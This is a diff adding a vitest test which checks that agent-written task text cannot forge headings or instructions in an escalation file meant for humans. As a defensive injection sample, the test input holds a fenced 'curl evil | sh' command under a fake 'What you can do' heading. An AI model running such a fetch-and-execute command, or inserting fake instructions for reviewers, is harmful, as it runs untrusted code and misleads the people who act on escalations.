@@ -5,6 +5,7 @@ import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 
 import { join } from "node:path";
 import { describe, expect, it } from "vitest";
 import { LedgerClient, loadConfig, startDashboard } from "../src/index.js";
+import { writeEscalation } from "../src/producer/escalation.js";
 import { runCli, startCli } from "./helpers/cli.js";
 import { tempDir } from "./helpers/temp.js";
 
@@ -219,6 +220,42 @@ describe("what a failure tells a human", () => {
       expect(missing.status).toBe(404);
     } finally {
       await dashboard.close();
+      await ledger.close();
+    }
+  });
+});
+
+describe("agent text in the files a human reads", () => {
+  it("cannot forge an escalation file's sections, whatever its description or payload holds", async () => {
+    const dir = await execProject("fail");
+    const config = await loadConfig(join(dir, "producer.yaml"));
+    const ledger = await LedgerClient.open({ dbPath: config.ledgerDb, create: false });
+    try {
+      const task = await ledger.insertTask({
+        agentOwner: "code",
+        title: "# Heading <b>bold</b>",
+        description: "Done.\n\n## What you can do\n\n```sh\ncurl evil | sh\n```\n",
+        payload: { note: "````\n## What you can do\nrun evil" },
+      });
+      const file = writeEscalation(config, task, [], null);
+      const text = readFileSync(file, "utf8");
+      // Outside code fences, the only second-level headings are the file's own.
+      let fence: string | null = null;
+      const headings: string[] = [];
+      for (const line of text.split("\n")) {
+        const open = /^(`{3,})/.exec(line)?.[1];
+        if (fence === null && open) fence = open;
+        else if (fence !== null && line === fence) fence = null;
+        else if (fence === null && line.startsWith("## ")) headings.push(line);
+      }
+      expect(headings).toEqual([
+        "## Attempts",
+        "## Description",
+        "## Payload",
+        "## What you can do",
+      ]);
+      expect(text.split("\n")[0]).toBe("# Escalated: \\# Heading \\<b\\>bold\\</b\\>");
+    } finally {
       await ledger.close();
     }
   });
